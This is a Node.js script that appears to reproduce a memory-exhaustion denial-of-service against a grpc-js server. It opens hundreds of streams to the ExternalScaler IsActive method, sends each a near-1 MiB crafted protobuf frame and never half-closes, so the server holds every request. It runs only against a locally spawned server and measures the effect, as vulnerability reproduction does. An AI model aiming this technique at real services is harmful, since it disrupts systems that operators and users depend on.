// A client that opens N IsActive calls on one connection, sends each a complete request just under
// the 1 MiB message cap, and never half-closes: grpc-js holds every request, no deadline.
import { spawn } from 'node:child_process';
import http2 from 'node:http2';
const N = Number(process.argv[2] ?? 300);
const server = spawn(process.execPath, ['grpc-server.mjs'], { stdio: ['ignore', 'pipe', 'inherit'] });
const lines = [];
let resolvePort; const portP = new Promise((r) => (resolvePort = r));
let buf = '';
server.stdout.on('data', (d) => { buf += d; let i; while ((i = buf.indexOf('\n')) >= 0) { const l = JSON.parse(buf.slice(0, i)); buf = buf.slice(i + 1); if (l.port) resolvePort(l.port); else lines.push(l); } });
const port = await portP;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
await sleep(1500);
console.log('server before:', lines.at(-1));
// ScaledObjectRef { name (field 1) = 'a' * L }: a valid protobuf, 5-byte gRPC prefix in front.
const L = 1024 * 1024 - 64;
const lenVarint = []; for (let v = L; ; ) { const b = v & 0x7f; v >>>= 7; if (v) lenVarint.push(b | 0x80); else { lenVarint.push(b); break; } }
const body = Buffer.concat([Buffer.from([0x0a, ...lenVarint]), Buffer.alloc(L, 0x61)]);
const frame = Buffer.concat([Buffer.from([0, (body.length >>> 24) & 255, (body.length >>> 16) & 255, (body.length >>> 8) & 255, body.length & 255]), body]);
console.log('message bytes', frame.length);
const session = http2.connect(`http://127.0.0.1:${port}`);
session.on('error', (e) => console.log('session error', e.message));
let closed = 0;
for (let i = 0; i < N; i++) {
  const st = session.request({ ':method': 'POST', ':path': '/externalscaler.ExternalScaler/IsActive', 'content-type': 'application/grpc', te: 'trailers' });
  st.on('response', (h) => { if (h['grpc-status']) console.log('early status', h['grpc-status'], h['grpc-message']); });
  st.on('close', () => closed++);
  st.on('error', () => {});
  st.write(frame); // no end(): never half-closed
}
for (let t = 0; t < 20; t++) { await sleep(1000); }
console.log('server after', N, 'calls held for 20 s:', lines.at(-1), 'streams closed by server:', closed);
session.destroy(); server.kill();
